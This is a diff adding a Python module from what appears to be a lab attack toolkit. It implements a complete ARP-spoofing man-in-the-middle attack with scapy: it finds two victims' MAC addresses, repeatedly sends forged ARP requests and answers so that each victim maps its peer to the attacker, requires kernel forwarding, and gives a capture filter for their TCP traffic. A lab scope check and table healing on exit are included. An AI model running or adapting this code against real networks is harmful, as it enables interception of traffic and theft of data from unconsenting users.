@@ -1,0 +1,261 @@
+"""The position on a LAN: two hosts are made to believe that the other one is at the attacker's MAC address.
+
+ARP (RFC 826) believes whoever speaks. Each victim, and nobody else, is sent requests in the other's name: Linux takes
+the sender's address from a request at once and unconditionally, and creates an entry that isn't there yet, while it
+passes over unsolicited answers for a second after a change. The victims' packets then come to the attacker, and its
+kernel passes them on.
+
+Every way out heals both tables. If the whole container is killed at once, nobody is left to do it; victims that were
+talking to each other recovered by themselves after 25 to 55 s (Linux 6.18, unreachability detection as in RFC 4861).
+"""
+
+import asyncio
+from pathlib import Path
+from types import TracebackType
+from typing import Any, Self
+
+from scapy.arch import get_if_addr, get_if_hwaddr
+from scapy.config import conf
+from scapy.layers.l2 import ARP, Ether
+
+from attacker import scope
+from attacker.errors import AttackerError
+from attacker.position.watchdog import Guard, heal
+
+FIND_SECONDS = 30.0
+_ASK_EVERY_SECONDS = 0.5
+_FIRST_INTERVALS_SECONDS = (0.1,) * 5 + (0.25,) * 8
+_INTERVAL_SECONDS = 1.0
+# After a victim has spoken to everybody: at once, and again behind the true answers.
+_AGAIN_SECONDS = (0.0, 0.05, 0.25)
+_ETHERTYPE_ARP = 0x0806
+_BROADCAST = "ff:ff:ff:ff:ff:ff"
+_NOBODY = "00:00:00:00:00:00"
+_WHO_HAS, _IS_AT = 1, 2
+_SYSCTLS = Path("/proc/sys/net/ipv4")
+
+
+class ArpPosition:
+    """Between `client` and `server` for as long as the context lasts; both tables are healed when it ends.
+
+    Entering it takes until both hosts have answered, at most `find_seconds`. AttackerError where they don't, or where
+    this machine isn't set up to pass packets on; OutOfScope where they are not the lab's. Needs CAP_NET_RAW alone.
+    """
+
+    def __init__(self, guard: Guard, client: str, server: str, *, find_seconds: float = FIND_SECONDS) -> None:
+        client_ip, self.interface = scope.check_victim(client)
+        server_ip, other_interface = scope.check_victim(server)
+        if client_ip == server_ip or self.interface != other_interface:
+            raise AttackerError(f"{client} and {server} must be two hosts on one network")
+        self.client, self.server = client_ip, server_ip
+        self._peers = {client_ip: server_ip, server_ip: client_ip}
+        self._guard = guard
+        self._find_seconds = find_seconds
+        self._own_mac = str(get_if_hwaddr(self.interface))
+        self.own_ip = str(get_if_addr(self.interface))
+        if self.own_ip in self._peers:
+            raise AttackerError(f"{self.own_ip} is the attacker's own address: name two other hosts")
+        self._macs: dict[str, str] = {}
+        self._poisoning = False
+        self._link: Any = None
+        self.healed: tuple[str, ...] = ()
+
+    async def __aenter__(self) -> Self:
+        _check_forwarding()
+        self._loop = asyncio.get_running_loop()
+        self._lost: asyncio.Future[str] = self._loop.create_future()
+        self._found = asyncio.Event()
+        self._link = _open_link(self.interface)
+        self._loop.add_reader(self._link.ins, self._receive)
+        self._loop.add_reader(self._guard, self._lose, "the guard has gone")
+        try:
+            await self._find()
+            self._entrust()
+            self._poisoning = True
+            self._poison()
+        except BaseException:
+            self._leave()
+            raise
+        self._repeating = asyncio.create_task(self._repeat())
+        return self
+
+    async def __aexit__(
+        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
+    ) -> None:
+        self._repeating.cancel()
+        self._leave()
+
+    async def hold(self, stop: asyncio.Event) -> None:
+        """Waits until `stop` is set; AttackerError as soon as the position is lost."""
+        stopped = asyncio.create_task(stop.wait())
+        try:
+            await asyncio.wait((stopped, self._lost), return_when=asyncio.FIRST_COMPLETED)
+        finally:
+            stopped.cancel()
+        if self._lost.done():
+            raise AttackerError(self._lost.result())
+
+    def bpf_filter(self) -> str:
+        """What the victims say to each other over TCP, as it comes in here and not as it leaves (pcap-filter(7))."""
+        return f"tcp and host {self.client} and host {self.server} and ether dst {self._own_mac}"
+
+    def describe(self) -> tuple[str, ...]:
+        """A line for each victim, `10.0.0.2 takes 02:42:0a:00:00:09 for 10.0.0.3`, and one for what gives it away."""
+        lines = tuple(f"{victim} takes {self._own_mac} for {peer}" for victim, peer in self._peers.items())
+        redirects = _redirects(self.interface)
+        return (*lines, redirects) if redirects else lines
+
+    async def _find(self) -> None:
+        """Asks for both hosts' MAC addresses until they are known."""
+        try:
+            async with asyncio.timeout(self._find_seconds):
+                while not self._found.is_set():
+                    for host in self._peers.keys() - self._macs.keys():
+                        own = self._own_mac, self.own_ip
+                        self._send(_arp(self._own_mac, _BROADCAST, _WHO_HAS, own, (_NOBODY, host)))
+                    try:
+                        await asyncio.wait_for(self._found.wait(), _ASK_EVERY_SECONDS)
+                    except TimeoutError:
+                        continue
+        except TimeoutError:
+            silent = " and ".join(sorted(self._peers.keys() - self._macs.keys()))
+            raise AttackerError(
+                f"{silent} did not answer on {self.interface} within {self._find_seconds:g} s: is the host running?"
+            ) from None
+        if len(set(self._macs.values())) < len(self._macs):
+            both = " and ".join(self._macs)
+            raise AttackerError(f"{both} have the same MAC address: somebody else is between them already")
+
+    def _receive(self) -> None:
+        """One ARP packet: an answer that was waited for, a victim's doubts, or a victim at a new address."""
+        try:
+            packet = self._link.recv()
+        except OSError as error:
+            self._lose(f"{self.interface}: {error.strerror}")
+            return
+        if packet is None or ARP not in packet or packet[ARP].psrc not in self._peers:
+            return
+        arp, victim = packet[ARP], str(packet[ARP].psrc)
+        if arp.hwsrc in (self._own_mac, _NOBODY) or packet.src != arp.hwsrc:
+            return
+        self._learn(victim, str(arp.hwsrc))
+        if not self._poisoning:
+            return
+        if packet.dst == _BROADCAST:
+            # Everybody has now heard the truth about the victim, and it may get a true answer.
+            for seconds in _AGAIN_SECONDS:
+                self._loop.call_later(seconds, self._poison)
+        elif arp.op == _WHO_HAS and arp.pdst == self._peers[victim]:
+            self._send(self._claim(victim, _IS_AT))
+
+    def _learn(self, victim: str, mac: str) -> None:
+        """A host that was started anew may have a new MAC address."""
+        if self._macs.get(victim) == mac:
+            return
+        self._macs[victim] = mac
+        if len(self._macs) == len(self._peers):
+            self._found.set()
+        if self._poisoning:
+            try:
+                self._entrust()
+            except AttackerError as error:
+                self._lose(str(error))
+
+    def _entrust(self) -> None:
+        self._guard.entrust(self.interface, self._remedies(), of=self)
+
+    def _claim(self, victim: str, operation: int) -> Any:
+        """Tells `victim` that its peer is here."""
+        return _arp(
+            self._own_mac,
+            self._macs[victim],
+            operation,
+            (self._own_mac, self._peers[victim]),
+            (self._macs[victim] if operation == _IS_AT else _NOBODY, victim),
+        )
+
+    def _remedies(self) -> tuple[bytes, ...]:
+        """What tells each victim the truth about its peer.
+
+        The Ethernet frames come from the attacker's own address nevertheless: from the peer's they would teach the
+        bridge that the peer is behind the attacker's port.
+        """
+        return tuple(
+            bytes(_arp(self._own_mac, self._macs[victim], operation, (self._macs[peer], peer), (target, victim)))
+            for victim, peer in self._peers.items()
+            for operation, target in ((_WHO_HAS, _NOBODY), (_IS_AT, self._macs[victim]))
+        )
+
+    def _poison(self) -> None:
+        if self._poisoning:
+            for victim in self._peers:
+                self._send(self._claim(victim, _WHO_HAS))
+
+    async def _repeat(self) -> None:
+        for seconds in _FIRST_INTERVALS_SECONDS:
+            await asyncio.sleep(seconds)
+            self._poison()
+        while True:
+            await asyncio.sleep(_INTERVAL_SECONDS)
+            self._poison()
+
+    def _send(self, packet: Any) -> None:
+        try:
+            self._link.send(packet)
+        except OSError as error:
+            self._lose(f"{self.interface}: {error.strerror}")
+
+    def _lose(self, reason: str) -> None:
+        self._loop.remove_reader(self._guard)
+        if not self._lost.done():
+            self._lost.set_result(f"the position between {' and '.join(self._peers)} is lost: {reason}")
+
+    def _leave(self) -> None:
+        """Heals, without waiting for anything that could be cancelled, and tells the guard that it needn't."""
+        self._loop.remove_reader(self._link.ins)
+        self._loop.remove_reader(self._guard)
+        was_poisoning, self._poisoning = self._poisoning, False
+        if was_poisoning and heal(self._remedies(), self._link.ins.send):
+            self.healed = tuple(self._peers)
+            try:
+                self._guard.entrust(self.interface, (), of=self)
+            except AttackerError:
+                pass  # it has gone, and the tables are right already
+        self._link.close()
+
+
+def _arp(source: str, destination: str, operation: int, sender: tuple[str, str], target: tuple[str, str]) -> Any:
+    """An ARP packet; `sender` and `target` are a MAC and an IP address each, as they stand in its body."""
+    return Ether(src=source, dst=destination) / ARP(
+        op=operation, hwsrc=sender[0], psrc=sender[1], hwdst=target[0], pdst=target[1]
+    )
+
+
+def _open_link(interface: str) -> Any:
+    """ARP alone, by the packet socket's own protocol number: that needs no filter and no promiscuous interface."""
+    try:
+        return conf.L2socket(iface=interface, type=_ETHERTYPE_ARP, promisc=False)
+    except PermissionError:
+        raise AttackerError("the ARP position needs CAP_NET_RAW (compose: `cap_add: [NET_RAW]`)") from None
+    except OSError as error:
+        raise AttackerError(f"{interface}: {error.strerror}") from None
+
+
+def _check_forwarding() -> None:
+    """The kernel must pass the victims' packets on."""
+    if _sysctl("ip_forward") != "1":
+        raise AttackerError(
+            "the victims' packets would end here: the ARP position needs net.ipv4.ip_forward=1 (compose: `sysctls:`)"
+        )
+
+
+def _redirects(interface: str) -> str | None:
+    """What to say where the kernel tells the victims of the shorter way (RFC 1812 section 5.2.7.2)."""
+    on = [name for name in ("all", interface) if _sysctl(f"conf/{name}/send_redirects") != "0"]
+    if not on:
+        return None
+    return f"ICMP redirects give it away, though Linux passes over them: net.ipv4.conf.{on[-1]}.send_redirects is on"
+
+
+def _sysctl(name: str) -> str:
+    return (_SYSCTLS / name).read_text().strip()
